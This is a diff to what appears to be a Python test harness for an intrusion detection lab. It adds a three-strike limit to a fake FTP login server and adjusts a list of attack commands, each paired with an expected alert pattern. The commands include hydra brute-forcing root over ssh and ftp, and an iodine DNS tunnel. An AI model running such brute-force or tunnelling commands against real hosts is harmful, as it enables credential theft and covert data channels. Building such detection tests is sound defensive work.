@@ -23,8 +23,10 @@ import socketserver
 class Login(socketserver.StreamRequestHandler):
     def handle(self):
         self.wfile.write(b"220 ready\\r\\n")
-        while line := self.rfile.readline():
+        wrong = 0
+        while wrong < 3 and (line := self.rfile.readline()):
             word = line.split(b" ")[0].strip().upper()
+            wrong += word == b"PASS"
             answer = {b"USER": b"331 password", b"PASS": b"530 wrong", b"QUIT": b"221 bye"}.get(word, b"500 what")
             self.wfile.write(answer + b"\\r\\n")
             if word == b"QUIT": return
@@ -259,7 +261,7 @@ def attacks(world):
     yield "hydra ssh", r"bruteforce\.ssh", 60, f"timeout 60 hydra -l root -P {world.folder}/words -t 4 ssh://{HOST}"
     yield "hydra ftp", r"bruteforce\.ftp", 60, f"timeout 60 hydra -l root -P {world.folder}/words -t 8 ftp://{HOST}"
     yield "iodine", r"tunnel\.dns", 60, (
-        f"pkill -f dns.py; ip netns exec {VICTIM} iodined -f -c -P secret 10.99.0.1 t.example.org & sleep 1; "
+        f"pkill -f [d]ns.py; ip netns exec {VICTIM} iodined -f -c -P secret 10.99.0.1 t.example.org & sleep 1; "
         f"iodine -f -r -P secret {HOST} t.example.org & sleep 6; timeout 45 ping -q -i 0.05 -s 400 10.99.0.1; "
         "pkill iodine; pkill iodined")
 
